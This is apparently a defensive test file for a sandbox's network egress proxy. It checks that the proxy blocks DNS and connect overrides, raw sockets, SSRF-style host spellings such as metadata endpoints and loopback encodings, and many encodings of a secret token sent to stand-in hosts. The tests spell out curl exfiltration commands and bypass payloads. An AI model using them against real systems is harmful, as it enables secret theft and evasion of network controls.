#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The lines of the attack corpus about the network (2.12 to 2.18) that no other file here has; docs/design/egress.md lists who has which."""

import base64
import json
import pathlib
import subprocess
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from door import ADDRESS, PROXY, TALK, Handler, Raw, Resolver, Web, behind, configure, denials, python, root, said  # noqa: E402
from harness import IS_ROOT, brig, main, start_brig, test, wait_until, workspace  # noqa: E402

VALUE = "zq8Gk2vTn41Lw0bYd7Rm"


@test
def overrides_of_clients_lead_to_the_same_door():
    with Web("api.test") as web, Web("closed.test") as closed:
        r = behind(configure(web, closed, allow=["api.test"]), "sh", "-c", """
get() { curl -sS -o /dev/null -w '%{http_code}\\n' "$@" 2>/dev/null; }
export NO_PROXY='*' no_proxy='*'
get --resolve api.test:443:93.184.216.34 https://api.test/
get --resolve closed.test:443:93.184.216.34 https://closed.test/
get --connect-to closed.test:443:api.test:443 https://closed.test/
get --connect-to ::api.test:443 -H 'Host: closed.test' https://api.test/
get --doh-url https://closed.test/dns-query https://api.test/
get --dns-servers 8.8.8.8 https://closed.test/""")
        codes = r["stdout"].split()
        assert codes[0] == "200" and "200" not in codes[1:], codes  # the name decides, whatever address was dialled
        assert len(web.seen) == 1 and not closed.connections, (web.seen, closed.connections)


@test
def other_protocols_have_nowhere_to_go():
    r = python(configure(allow=["api.test"]), TALK + """
for name, args in (('raw', (socket.AF_INET, socket.SOCK_RAW, 1)), ('raw6', (socket.AF_INET6, socket.SOCK_RAW, 58)), ('packet', (17, socket.SOCK_RAW, 0x300)),
                   ('icmp', (socket.AF_INET, socket.SOCK_DGRAM, 1))):
    def f():
        s = socket.socket(*args); s.settimeout(1)
        s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('8.8.8.8', 0)); return s.recv(100)
    say(name, f)
for name, to in (('quic', ('8.8.8.8', 443)), ('ntp', ('8.8.8.8', 123)), ('stun', ('8.8.8.8', 3478)), ('mdns', ('224.0.0.251', 5353)), ('llmnr', ('ff02::1:3', 5355)),
                 ('six', ('2001:4860:4860::8888', 443)), ('broadcast', ('255.255.255.255', 9))):
    def g():
        s = socket.socket(socket.AF_INET6 if ':' in to[0] else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
        s.connect(to); s.send(b'x'); return s.recv(100)
    say(name, g)
say('links', lambda: socket.if_nameindex())
""")
    answers = said(r)
    assert "eth0" in answers.pop("links"), answers  # the control: the sandbox has its own
    assert len(answers) == 11 and all("Error" in v for v in answers.values()), answers
    p = start_brig("run", "--config", configure(allow=["api.test"]), "--", "sh", "-c", "touch up; sleep 20")
    try:
        assert wait_until(lambda: (workspace() / "up").exists())
        addresses = subprocess.run(["ip", "-o", "addr"], stdout=subprocess.PIPE, text=True, check=True).stdout
        assert "127.0.0.1/" in addresses and "198.19.255." not in addresses, addresses  # the host has no device of the sandbox's
    finally:
        p.terminate()
        p.communicate()


ODD = ["127.0.0.1:443", "127.1:443", "0x7f000001:443", "017700000001:443", "0177.0.0.1:443", "2130706433:443", "127.0.0.1.:443", "[::1]:443", "[::ffff:127.0.0.1]:443",
       "[::127.0.0.1]:443", "[64:ff9b::7f00:1]:443", "[2002:7f00:1::]:443", "[fe80::1%25lo]:443", "[::]:443", "0.0.0.0:443", "169.254.169.254:80",
       "localhost:443", "localhost.localdomain:443", "ip6-loopback:443", "x.localhost:443", "printer.local:443", "host.brig.internal:443", "metadata.google.internal:80",
       "evilapi.test:443", "api.test.evil.test:443", "api.test@evil.test:443", "api.test%00.evil.test:443", "api.test\\\\.evil.test:443", "api.test#.evil.test:443",
       "api.test:0", "api.test:65536", "api.test:0443", "api.test:+443", "api.test:443,80", "api.test:", "api.test", "api.test:22", "xn--.test:443",
       "\\xc3\\xa4pi.test:443", "api\\xe3\\x80\\x82test:443", "api.te\\xc2\\xadst:443", "api..test:443", "-api.test:443", "a_b.test:443"]


@test
def odd_spellings_of_hosts_and_ports_are_nobody():
    with Web("api.test") as web, Resolver({}) if IS_ROOT else Web("spare.test") as names:
        listed = "".join(f"b'{o}', " for o in ODD)
        r = python(configure(web, allow=["api.test", "*.api.test"]), TALK + f"""
def connect(to):
    s = socket.create_connection(({ADDRESS!r}, {PROXY}), timeout=10)
    s.sendall(b'CONNECT ' + to + b' HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')
    return s.recv(4096).split(b'\\r\\n')[0].decode()
for i, to in enumerate([{listed}]): say(str(i), lambda: connect(to))
say('control', lambda: connect(b'api.test:443'))
say('upper', lambda: connect(b'API.Test.:443'))
""")
        answers = said(r)
        assert " 200 " in answers.pop("control") and " 200 " in answers.pop("upper"), answers
        assert len(answers) == len(ODD) and all(v.startswith("HTTP/1.1 4") for v in answers.values()), {ODD[int(k)]: v for k, v in answers.items()}
        assert not web.connections and not getattr(names, "asked", []), (web.connections, getattr(names, "asked", []))


@test
def names_have_addresses_and_nothing_else_and_their_number_ends():
    if not IS_ROOT:
        return  # without a name server of ours there is no oracle
    with Resolver({}) as names:
        r = python(configure(allow=["*.wild.test"], rate={"names": 30}), TALK + f"""
def ask(name, kind):
    q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + kind.to_bytes(2, 'big') + b'\\0\\1'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(({ADDRESS!r}, 53)); s.send(q); a = s.recv(512)
    return a[3] & 15, int.from_bytes(a[6:8], 'big')
for kind in (1, 2, 5, 12, 15, 16, 33, 43, 48, 64, 65, 99, 252, 255): say('type%d' % kind, lambda: ask('a.wild.test', kind))
codes = [ask('name%d.wild.test' % i, 1)[0] for i in range(100)]
say('codes', lambda: (codes.count(0), codes.count(5)))
""")
        answers = said(r)
        assert answers.pop("type1") == "(0, 1)" and answers.pop("codes") == "(29, 71)", answers
        assert set(answers.values()) == {"(0, 0)"}, answers
        assert not names.asked and "limit" in {reason for _, reason in denials(r)}, (names.asked, r["denials"][:2])


@test
def nothing_of_a_tls_session_outlives_its_connection():
    with Web("api.test") as web:
        r = python(configure(web), """
import socket, ssl
def talk(alpn=None, session=None):
    c = ssl.create_default_context()
    if alpn: c.set_alpn_protocols(alpn)
    t = c.wrap_socket(socket.create_connection(('api.test', 443), timeout=10), server_hostname='api.test', session=session)
    t.sendall(b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n'); t.recv(100)
    return t
c = ssl.create_default_context()
one = c.wrap_socket(socket.create_connection(('api.test', 443), timeout=10), server_hostname='api.test')
one.sendall(b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n')
while one.recv(4096): pass
two = c.wrap_socket(socket.create_connection(('api.test', 443), timeout=10), server_hostname='api.test', session=one.session)
print(two.session_reused, two.version())
print(talk(['h2', 'http/1.1']).selected_alpn_protocol())
print(talk(['h2']).selected_alpn_protocol())
try: print(talk(['spdy/3']).selected_alpn_protocol())
except (ssl.SSLError, OSError): print('refused')
""")
        assert r["stdout"].split() == ["False", "TLSv1.3", "h2", "h2", "refused"], r["stdout"]
        assert len(web.seen) == 1


@test
def a_tunnel_ends_with_its_run():
    def hold(self, s):
        self.seen.append(s.recv(5))
        while s.recv(4096):
            pass
        self.seen.append("ended")

    with Raw("pin.test", hold, tls=False) as server:
        r = python(configure(server, passthrough=["pin.test"]), """
import os, socket, ssl, time
into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
t = ssl.create_default_context().wrap_bio(into, out, server_hostname='pin.test')
try: t.do_handshake()
except ssl.SSLWantReadError: pass
s = socket.create_connection(('pin.test', 443)); s.sendall(out.read()); time.sleep(0.3)
if os.fork() == 0: os.setsid(); time.sleep(60)
""")
        assert r["outcome"] == "exited" and wait_until(lambda: "ended" in server.seen), server.seen
        assert server.seen[0][:1] == b"\x16", server.seen


@test
def a_placeholder_of_another_run_is_known_as_one():
    with Web("api.test") as web:
        config = configure(web, more={"credentials": {"TOKEN": {"host": "api.test"}}})
        old = brig("run", "--json", "--config", config, "--", "sh", "-c", 'echo "$TOKEN"', env={"TOKEN": VALUE}).json["stdout"].strip()
        r = brig("run", "--json", "--config", config, "--", "sh", "-c", f"""
curl -s -o /dev/null -w '%{{http_code}}\\n' -H 'Authorization: Bearer {old}' https://api.test/
curl -s -o /dev/null -w '%{{http_code}}\\n' -H 'X: {old}' https://api.test/
curl -s -o /dev/null -w '%{{http_code}}\\n' -H "Authorization: Bearer $TOKEN" https://api.test/""", env={"TOKEN": VALUE}).json
        assert r["stdout"].split() == ["403", "403", "200"] and old.startswith("brig-"), r["stdout"]
        assert len(web.seen) == 1 and {reason for _, reason in denials(r)} == {"credential-misuse"}, r["denials"]


class Bodies(Handler):
    def do_POST(self):
        n = int(self.headers.get("Content-Length", 0))
        self.server.seen.append((self.requestline, str(self.headers), self.rfile.read(n)))
        self.answer(b"")

    def do_GET(self):
        self.server.seen.append((self.requestline, str(self.headers), b""))
        self.answer(b"")


@test
def a_known_value_does_not_leave_in_any_declared_form_or_place():
    half, rest = VALUE[:9], VALUE[9:]
    every = "".join(f"%{b:02x}" for b in VALUE.encode())
    unicode = "".join(f"\\u{b:04x}" for b in VALUE.encode())
    tries = {
        "url": f"'https://other.test/?a={VALUE}'", "path": f"https://other.test/{VALUE}", "twice": f"'https://other.test/?a={every.replace('%', '%25')}'",
        "name": f"--http1.1 -H '{VALUE}: 1' https://other.test/", "value": f"-H 'X: {VALUE}' https://other.test/", "cookie": f"-b a={VALUE} https://other.test/",
        "referer": f"-e https://x/{VALUE} https://other.test/", "agent": f"-A {VALUE} https://other.test/", "user": f"-u me:{VALUE} https://other.test/",
        "json": f"-d '{{\"k\": \"{VALUE}\"}}' https://other.test/", "key": f"-d '{{\"{VALUE}\": 1}}' https://other.test/", "form": f"-d a=b -d c={VALUE} https://other.test/",
        "part": f"-F a=b -F 'f={VALUE};type=text/plain' https://other.test/", "file": f"-F 'f=@/etc/hostname;filename={VALUE}' https://other.test/",
        "hex": f"-d {VALUE.encode().hex()} https://other.test/", "HEX": f"-d {VALUE.encode().hex().upper()} https://other.test/",
        "percent": f"-d '{every}' https://other.test/", "unicode": f"-d '{unicode}' https://other.test/", "label": f"https://{VALUE.lower()}.wild.test/",
        "labels": f"https://{half.lower()}.{rest.lower()}.wild.test/",
        **{f"base64-{cut}": f"-d '{base64.b64encode(b'x' * cut + VALUE.encode() + b'yy').decode()}' https://other.test/" for cut in range(3)},
        "urlsafe": f"-d '{base64.urlsafe_b64encode(VALUE.encode()).decode()}' https://other.test/",
        "compress": f"-H 'Content-Encoding: compress' -d x https://other.test/", "lz4": f"-H 'Content-Encoding: lz4' -d x https://other.test/",
        "deep": f"-H 'Content-Encoding: gzip, gzip, gzip, gzip' -d x https://other.test/", "codings": "-H 'Content-Encoding: gzip' -H 'Content-Encoding: gzip' -d x https://other.test/",
    }
    with Web("other.test", handler=Bodies) as other:
        config = configure(other, allow=["other.test", "*.wild.test"], more={"credentials": {"TOKEN": {"host": "api.test"}}})
        script = "".join(f"printf '{k} '; curl -s -m 10 -o /dev/null -w '%{{http_code}}\\n' {v}\n" for k, v in tries.items())
        script += "".join(f"printf 'first-{i} '; curl -s -o /dev/null -w '%{{http_code}}\\n' {a}; printf 'second-{i} '; curl -s -o /dev/null -w '%{{http_code}}\\n' {b}; "
                          f"printf 'again-{i} '; curl -s -o /dev/null -w '%{{http_code}}\\n' {b}\n" for i, (a, b) in enumerate((
            (f"-d '{half}' https://other.test/", f"-d '{rest}' https://other.test/"), (f"'https://other.test/?a={half}'", f"'https://other.test/?a={rest}'"))))
        script += f"printf 'two '; curl -s -o /dev/null -w '%{{http_code}}\\n' 'https://other.test/?a={half}&b={rest}'\n"
        script += f"printf 'headers '; curl -s -o /dev/null -w '%{{http_code}}\\n' -H 'A: {half}' -H 'B: {rest}' https://other.test/\n"
        script += "printf 'control '; curl -s -o /dev/null -w '%{http_code}\\n' -F a=b -F f=@/etc/hostname -b c=d 'https://other.test/?x=y'\n"
        r = brig("run", "--json", "--config", config, "--", "sh", "-c", script, env={"TOKEN": VALUE}, timeout=60).json
        answers = dict(line.split() for line in r["stdout"].splitlines())
        assert answers.pop("control") == answers.pop("first-0") == answers.pop("first-1") == "200", answers
        assert answers.pop("label") in ("000", "403") and answers.pop("labels") in ("000", "403"), answers
        assert len(answers) == len(tries) + 4 and set(answers.values()) == {"403"}, {k: v for k, v in answers.items() if v != "403"}
        # A guest that fetched a half twice over has one half.
        text = repr(other.seen)
        assert VALUE not in text and rest not in text, other.seen
        whole = [body for _, fields, body in other.seen if f"Content-Length: {len(body)}\n" in fields or "Content-Length" not in fields]
        assert len(whole) == 3, other.seen  # of others at most a head came, whose body was stopped
        assert {reason for _, reason in denials(r)} == {"leak"}, r["denials"]


if __name__ == "__main__":
    sys.exit(main())
